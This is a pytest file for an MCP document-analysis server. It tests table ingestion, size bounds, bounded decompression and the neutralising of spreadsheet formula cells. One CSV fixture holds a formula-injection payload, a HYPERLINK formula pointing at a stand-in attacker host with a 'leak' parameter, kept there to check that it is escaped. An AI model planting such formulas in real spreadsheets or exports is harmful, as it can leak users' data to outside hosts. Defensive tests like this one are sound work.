"""Tables as a program reads them, through the real CLI (`add`) and a real MCP client over stdio:
the CSV starts at the header row (title, notes and footer in tables.json), formula cells are
neutralised in the text/csv resource but raw in the sandbox, and sizes are bounded at ingest
(`ingest.max_table_chars`) and per resource read (`server.max_table_resource_chars`)."""

from __future__ import annotations

import ast
import csv
import json
from pathlib import Path
from typing import Any

import pytest
from mcp import Client

from tests.conftest import run_cli
from tests.format_files import write_workbook
from tests.mcp_helpers import stdio_params

pytestmark = pytest.mark.anyio

FLEET_HTML = """<html><body><h1>Fleet</h1>
<table>
<tr><td colspan="3">Vessels in service by region</td></tr>
<tr><th>Region</th><th>2023</th><th>2024</th></tr>
<tr><td>Norway</td><td>12</td><td>14</td></tr>
<tr><td>Denmark</td><td>7</td><td>9</td></tr>
<tr><td colspan="3">Source: registry extract, March 2025</td></tr>
</table></body></html>
"""
# Text cells a spreadsheet would run as formulas, next to numbers that must stay numbers.
FORMULAS_CSV = (
    "name,formula,delta\n"
    'Alice,"=HYPERLINK(""http://evil.example/?leak="",""open"")",-3.5\n'
    "@SUM(A1),+1 555 0100,-\n"
    "Bob,plain,+2\n"
)
BIG_ROWS = 600  # about 12,000 characters of CSV: over the 5,000 kept at ingest
INGEST_ENV = {"MCP_ANALYSIS_INGEST__MAX_TABLE_CHARS": "5000"}


BERTHS = [["Region", "Berths", "Depth"], ["Bergen", "12", "14.5"], ["Oslo", "8", "11"]]


def write_titled_tables(docs: Path) -> None:
    """berths.docx and berths.pptx: one table each, its first row one merged title cell over the header."""
    import docx
    from pptx import Presentation
    from pptx.util import Inches

    document = docx.Document()
    table = document.add_table(rows=4, cols=3)
    deck = Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    grid = slide.shapes.add_table(4, 3, Inches(1), Inches(2), Inches(6), Inches(2)).table
    for cell in (table.cell(0, 0).merge(table.cell(0, 2)), grid.cell(0, 0)):
        cell.text = "Berths by port, 2025"
    grid.cell(0, 0).merge(grid.cell(0, 2))
    for r, row in enumerate(BERTHS, 1):
        for c, value in enumerate(row):
            table.cell(r, c).text = grid.cell(r, c).text = value
    document.save(str(docs / "berths.docx"))
    deck.save(str(docs / "berths.pptx"))


@pytest.fixture(scope="module")
def kb(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str], str]:
    """A knowledge base made by `add` (the real CLI); returns (db, file name -> id, add's stderr)."""
    root = tmp_path_factory.mktemp("exports")
    docs = root / "docs"
    docs.mkdir()
    write_workbook(docs / "revenue.xlsx")
    (docs / "fleet.html").write_text(FLEET_HTML, encoding="utf-8")
    write_titled_tables(docs)
    (docs / "formulas.csv").write_text(FORMULAS_CSV, encoding="utf-8")
    rows = "".join(f"{i},North,{i % 50},{1 + i / 10}\n" for i in range(1, BIG_ROWS + 1))
    (docs / "orders.csv").write_text("order_id,region,units,price\n" + rows, encoding="utf-8")
    db = root / "kb.lancedb"
    added = run_cli("--db", str(db), "add", str(docs), env=INGEST_ENV, timeout=600)
    assert added.returncode == 0, added.stderr
    return db, ids_by_name(db), added.stderr


def ids_by_name(db: Path) -> dict[str, str]:
    """File name -> document id, read from the table as it is on disk (no process started for it)."""
    import lancedb

    rows = lancedb.connect(str(db)).open_table("document_meta").to_arrow().select(["id", "uri"]).to_pylist()
    return {Path(row["uri"]).name: row["id"] for row in rows}


def _client(db: Path, tmp_path: Path, **env: str) -> Client:
    return Client(stdio_params(db, env={"XDG_DATA_HOME": str(tmp_path / "data"), **env}))


async def _read(client: Client, uri: str) -> str:
    return (await client.read_resource(uri)).contents[0].text  # type: ignore[union-attr]


async def _run(client: Client, code: str) -> Any:
    result = await client.call_tool("execute_code", {"code": code})
    assert result.structured_content and result.structured_content["success"], result
    return json.loads(ast.literal_eval(result.structured_content["value"]))


async def test_a_sheet_with_title_notes_and_a_source_line_reads_with_csv_dictreader(
    kb: tuple[Path, dict[str, str], str], tmp_path: Path
) -> None:
    db, ids, _ = kb
    async with _client(db, tmp_path) as client:
        revenue = json.loads(await _read(client, f"documents:///{ids['revenue.xlsx']}/tables.json"))[0]
        assert revenue["title"] == "Revenue by region, EUR (notes above the table)"
        assert revenue["header"] == ["Region", "Q1", "Q2", "Reported"] and revenue["header_row"] == 2
        assert revenue["footer"] == ["Source: finance department, unaudited"]
        assert revenue["total_rows"] == [2] and revenue["rows"] == 4 and revenue["truncated"] is None
        text = await _read(client, f"documents:///{ids['revenue.xlsx']}/tables/0.csv")
        assert revenue["size"] == len(text.encode("utf-8"))
        rows = list(csv.DictReader(text.splitlines()))
        assert [r["Region"] for r in rows] == ["North", "South", "Total"] and rows[0]["Q1"] == "1200.5"

        fleet = json.loads(await _read(client, f"documents:///{ids['fleet.html']}/tables.json"))[0]
        assert fleet["title"] == "Vessels in service by region" and fleet["header"] == ["Region", "2023", "2024"]
        assert fleet["footer"] == ["Source: registry extract, March 2025"]
        for name in ("berths.docx", "berths.pptx"):
            (berths,) = json.loads(await _read(client, f"documents:///{ids[name]}/tables.json"))
            assert (berths["title"], berths["header"], berths["header_row"]) == ("Berths by port, 2025", BERTHS[0], 1)
            text = await _read(client, f"documents:///{ids[name]}/tables/0.csv")
            assert list(csv.reader(text.splitlines())) == BERTHS
        # The sandbox reads the same file from its header row.
        seen = await _run(
            client,
            "import csv, json\nfrom pathlib import Path\n"
            f"t = json.loads(Path('/documents/{ids['fleet.html']}/tables.json').read_text())[0]\n"
            "json.dumps([list(csv.DictReader(Path(t['path']).read_text().splitlines())), t['size'],"
            " Path(t['path']).stat().st_size])",
        )
        rows, size, stat_size = seen
        assert size == stat_size == len("Region,2023,2024\r\nNorway,12,14\r\nDenmark,7,9\r\n")
        assert rows == [
            {"Region": "Norway", "2023": "12", "2024": "14"},
            {"Region": "Denmark", "2023": "7", "2024": "9"},
        ]


async def test_formula_cells_are_neutralised_for_people_and_raw_for_code(
    kb: tuple[Path, dict[str, str], str], tmp_path: Path
) -> None:
    db, ids, _ = kb
    async with _client(db, tmp_path) as client:
        exported = await _read(client, f"documents:///{ids['formulas.csv']}/tables/0.csv")
        assert list(csv.reader(exported.splitlines())) == [
            ["name", "formula", "delta"],
            ["Alice", '\'=HYPERLINK("http://evil.example/?leak=","open")', "-3.5"],
            ["'@SUM(A1)", "'+1 555 0100", "'-"],
            ["Bob", "plain", "+2"],
        ]
        raw = await _run(
            client,
            "import json\nfrom pathlib import Path\n"
            f"json.dumps(Path('/documents/{ids['formulas.csv']}/tables/0.csv').read_text())",
        )
        assert raw.splitlines()[2] == "@SUM(A1),+1 555 0100,-" and raw.splitlines()[1].startswith('Alice,"=HYPER')


async def test_a_table_over_the_ingest_bound_keeps_its_first_rows_with_a_warning(
    kb: tuple[Path, dict[str, str], str], tmp_path: Path
) -> None:
    db, ids, stderr = kb
    assert "orders.csv" in stderr and "ingest.max_table_chars (5,000)" in stderr, stderr
    async with _client(db, tmp_path) as client:
        orders = json.loads(await _read(client, f"documents:///{ids['orders.csv']}/tables.json"))[0]
        kept = orders["truncated"]["rows_kept"]
        assert orders["truncated"]["rows"] == BIG_ROWS + 1 and 50 < kept == orders["rows"] < BIG_ROWS
        assert orders["size"] <= 5000
        text = await _read(client, f"documents:///{ids['orders.csv']}/tables/0.csv")
        assert text.splitlines()[0] == "order_id,region,units,price" and len(text.splitlines()) == kept


async def test_a_resource_read_over_its_bound_is_refused_naming_the_setting_and_code_reads_it(
    kb: tuple[Path, dict[str, str], str], tmp_path: Path
) -> None:
    db, ids, _ = kb
    async with _client(db, tmp_path, MCP_ANALYSIS_SERVER__MAX_TABLE_RESOURCE_CHARS="1000") as client:
        with pytest.raises(Exception, match=r"server.max_table_resource_chars=1,000.*execute_code") as refused:
            await _read(client, f"documents:///{ids['orders.csv']}/tables/0.csv")
        assert f"/documents/{ids['orders.csv']}/tables/0.csv" in str(refused.value)
        assert await _read(client, f"documents:///{ids['fleet.html']}/tables/0.csv")  # small ones still read
        lines = await _run(
            client,
            f"import json\nfrom pathlib import Path\n"
            f"json.dumps(len(Path('/documents/{ids['orders.csv']}/tables/0.csv').read_text().splitlines()))",
        )
        assert lines > 50


def _as_before_sizes_were_kept(db: Path, rows: int) -> int:
    """Make `db`'s document_tables as knowledge bases from before this change have it (no csv_bytes,
    csv_chars, layout), with its one table's CSV replaced by `rows` rows compressed as a stream (no size in
    the frame either): the decompression must be bounded as it runs. Returns the CSV's size."""
    import lancedb
    import pyarrow as pa
    import zstandard

    table = lancedb.connect(str(db)).open_table("document_tables")
    table.drop_columns(["csv_bytes", "csv_chars", "layout"])
    data = table.to_arrow()
    line = b"x" * 60 + b",1\r\n"
    sink = pa.BufferOutputStream()
    with zstandard.ZstdCompressor(write_content_size=False).stream_writer(sink, closefd=False) as writer:
        writer.write(b"name,value\r\n")
        for _ in range(rows // 1000):
            writer.write(line * 1000)
    blob = sink.getvalue().to_pybytes()
    assert len(blob) < 100_000 and zstandard.frame_content_size(blob) == -1  # a small row, a big table
    data = data.set_column(data.schema.get_field_index("csv"), "csv", pa.array([blob], pa.large_binary()))
    table.delete("true")
    table.add(data)
    return 12 + len(line) * (rows // 1000) * 1000


async def test_tables_stored_without_their_size_are_bounded_while_decompressing(tmp_path: Path) -> None:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "old.csv").write_text("name,value\nx,1\n", encoding="utf-8")
    db = tmp_path / "kb.lancedb"
    assert run_cli("--db", str(db), "add", str(docs)).returncode == 0
    size = _as_before_sizes_were_kept(db, 300_000)  # 19 MB of CSV, over both bounds below
    (old_id,) = ids_by_name(db).values()
    bounds = {"MCP_ANALYSIS_SANDBOX__MAX_MEMORY_MB": "16", "MCP_ANALYSIS_SERVER__MAX_TABLE_RESOURCE_CHARS": "1000000"}
    async with _client(db, tmp_path, **bounds) as client:
        entry = json.loads(await _read(client, f"documents:///{old_id}/tables.json"))[0]
        assert entry["size"] is None and entry["title"] == "" and entry["header"] == ["name", "value"]
        with pytest.raises(Exception, match=r"server\.max_table_resource_chars=1,000,000"):
            await _read(client, f"documents:///{old_id}/tables/0.csv")
        result = await client.call_tool(
            "execute_code", {"code": f"from pathlib import Path\nPath('/documents/{old_id}/tables/0.csv').read_text()"}
        )
        error = (result.structured_content or {}).get("error") or ""
        assert "File too large" in error and "sandbox.max_memory_mb=16" in error, result
        assert f"{size:,}" not in error  # refused as the stream passed the bound, not once whole
        assert json.loads(await _read(client, f"documents:///{old_id}/tables.json"))  # still serving
    # Adding to such a knowledge base gives document_tables its new columns; old rows keep nulls.
    (docs / "new.csv").write_text("port,calls\nBergen,3\n", encoding="utf-8")
    assert run_cli("--db", str(db), "add", str(docs / "new.csv")).returncode == 0
    new_id = ids_by_name(db)["new.csv"]
    async with _client(db, tmp_path) as client:
        assert json.loads(await _read(client, f"documents:///{new_id}/tables.json"))[0]["size"] == len(
            "port,calls\r\nBergen,3\r\n"
        )
        assert json.loads(await _read(client, f"documents:///{old_id}/tables.json"))[0]["size"] is None
